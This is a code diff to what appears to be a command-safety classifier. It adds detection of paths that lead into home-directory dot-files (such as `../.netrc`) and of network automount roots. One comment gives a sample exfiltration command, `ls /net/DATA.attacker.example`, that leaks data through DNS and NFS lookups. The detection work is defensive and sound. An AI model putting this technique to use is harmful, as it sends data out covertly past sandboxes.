@@ -238,21 +238,47 @@ function homeDotEntry(text: string, absolute: string, lexical: readonly string[]
   const dotted = (segment: string | undefined) => segment !== undefined && segment !== '..' && (segment.startsWith('.') || segment.startsWith('['));
   // `~/.x`, `~user/.x`, and after an option or `NAME=` prefix (`-f~/.x`, `--file=~/.x`)
   if (/(^|[=:]|^-[^/]*)~[^/]*$/.test(lexical[0] ?? '') && dotted(lexical[1])) return `${lexical[0]}/${lexical[1]}`;
-  // a relative path climbing out of the workspace straight into a dot-entry (`../.netrc`, `../../.x`)
+  let parts: string[];
   if (lexical[0] === '..') {
+    // a relative path climbing out of the workspace straight into a dot-entry (`../.netrc`, `../../.x`)
     const first = lexical.findIndex((s) => s !== '..');
     if (first > 0 && dotted(lexical[first])) return lexical.slice(0, first + 1).join('/');
+    // ... or up to the root and down into a home (`../../../home/u/.x`): read from where it lands
+    parts = first < 0 ? [] : lexical.slice(first);
+  } else {
+    // an absolute path, bare or after an option or `NAME=` prefix (`-f/root/.x`); not `src/home/u/.x`
+    const prefix = text.slice(0, text.length - absolute.length);
+    if (!absolute.startsWith('/') || !(prefix === '' || prefix.startsWith('-') || prefix.includes('='))) return null;
+    parts = lexicalSegments(absolute.split('/').filter((s) => s !== '' && s !== '.'));
   }
-  // an absolute path, bare or after an option or `NAME=` prefix (`-f/root/.x`); not `src/home/u/.x`
-  const prefix = text.slice(0, text.length - absolute.length);
-  if (!absolute.startsWith('/') || !(prefix === '' || prefix.startsWith('-') || prefix.includes('='))) return null;
-  const parts = lexicalSegments(absolute.split('/').filter((s) => s !== '' && s !== '.'));
   // (the home's own segments may be globs too: `/?ome/u/.x`, `/r[o]ot/.x`)
   if (parts[0] !== undefined && segmentMatches(parts[0], 'root') && dotted(parts[1])) return `/${parts[0]}/${parts[1]}`;
   // /home/u, /Users/u, /var/home/u, /mnt/c/Users/u, /export/home/u: a `home` or `Users` segment, then the user
   for (let i = 0; i + 2 < parts.length; i++) {
     if ((segmentMatches(parts[i]!, 'home') || segmentMatches(parts[i]!, 'users')) && dotted(parts[i + 2])) return `/${parts.slice(0, i + 3).join('/')}`;
   }
+  return null;
+}
+
+/**
+ * Roots where opening a path makes the system reach another host: the automounter's `-hosts` map
+ * (`/net/HOST/...`, on by default on macOS, common with autofs on Linux), macOS's `/Network`, AFS
+ * cells, and a `//HOST/share` UNC path where the platform reads one. The mount is made by a
+ * system daemon, outside any sandbox of the command, so `ls /net/DATA.attacker.example` sends
+ * DATA out in a DNS query and an NFS mount request (rt-classifier). The root itself may be a glob
+ * (`/n?t/x`). Returns the root named, or null. Pure.
+ */
+export function networkMountIn(text: string): string | null {
+  const at = text.indexOf('/');
+  if (at < 0) return null;
+  const prefix = text.slice(0, at);
+  // an operand, or the value of an option or `NAME=` (`--file=/net/x`); not `src/net/x`
+  if (!(prefix === '' || prefix.startsWith('-') || prefix.includes('='))) return null;
+  const absolute = text.slice(at);
+  if (/^\/\/[^/]/.test(absolute)) return absolute;
+  const first = lexicalSegments(absolute.split('/').filter((s) => s !== '' && s !== '.'))[0];
+  if (first === undefined) return null;
+  for (const root of ['net', 'Network', 'afs']) if (segmentMatches(first, root)) return `/${first}`;
   return null;
 }
 
